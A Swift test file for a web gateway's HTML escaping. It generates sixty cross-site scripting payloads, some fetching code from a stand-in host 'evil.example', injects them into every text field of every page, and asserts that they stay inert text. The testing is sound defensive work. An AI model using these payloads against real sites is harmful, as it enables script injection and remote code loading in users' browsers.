import HTML
import ProposalsContract
import Testing

@testable import Gateway

@Suite struct EscapingTests {
  /// Openings that turned text into script somewhere once, each with several payloads.
  static let payloads: [String] = {
    let cores = ["alert(1)", "fetch('/x')", "import('//evil.example')"]
    let shapes = [
      "<script>%</script>", "</script><script>%</script>", "<img src=x onerror=%>", "\"><svg onload=%>",
      "'><svg onload=%>",
      "\" onmouseover=\"%", "' onfocus='% autofocus", "</title><script>%</script>", "</textarea><script>%</script>",
      "<iframe srcdoc=\"<script>%</script>\">", "javascript:%", "[x](javascript:%)", "<a href=\"javascript:%\">x</a>",
      "<!--<script>%</script>-->", "]]><script>%</script>", "<math><mi//xlink:href=\"data:x,<script>%</script>\">",
      "<style>@import'//evil.example'</style>%", "**<b onclick=%>x</b>**", "\u{0}<scr\u{0}ipt>%</script>",
      "<ScRiPt>%</sCrIpT>",
    ]
    return shapes.flatMap { shape in
      cores.map { shape.split(separator: "%", omittingEmptySubsequences: false).joined(separator: $0) }
    }
  }()

  /// The tags of each page without a payload.
  static let harmless: [Set<String>] = (try? EveryPage.all().map { Set(TagScan($0.page.bytes).tags) }) ?? []

  @Test(arguments: payloads)
  func `a payload in any field of any page stays text`(payload: String) throws {
    for ((name, page), harmless) in zip(try EveryPage.all(text: { $0 + payload }), Self.harmless) {
      let scan = TagScan(page.bytes)
      #expect(scan.faults.isEmpty, "\(name): \(scan.faults)")
      #expect(harmless.isSuperset(of: scan.tags), "\(name)")
      for attribute in scan.attributes {
        #expect(!attribute.name.hasPrefix("on") && attribute.name != "srcdoc" && attribute.name != "style", "\(name)")
        guard attribute.name == "href" || attribute.name == "src" || attribute.name == "action" else { continue }
        let isKnown = ["/", "#", "https://harbor.example/", "mailto:", "tel:"].contains {
          attribute.value.hasPrefix($0)
        }
        #expect(isKnown, "\(name): \(attribute)")
      }
    }
  }

  @Test func `there are sixty payloads`() {
    #expect(Self.harmless.count == 26)
    #expect(Self.payloads.count == 60 && Set(Self.payloads).count == 60)
  }

  @Test func `every free text of the samples is put to the test`() throws {
    let marked = try EveryPage.all(text: { $0 + "\u{2603}" }).first { $0.name == "open" }
    let count = marked?.page.string.unicodeScalars.filter { $0 == "\u{2603}" }.count ?? 0
    #expect(count > 60)
  }
}
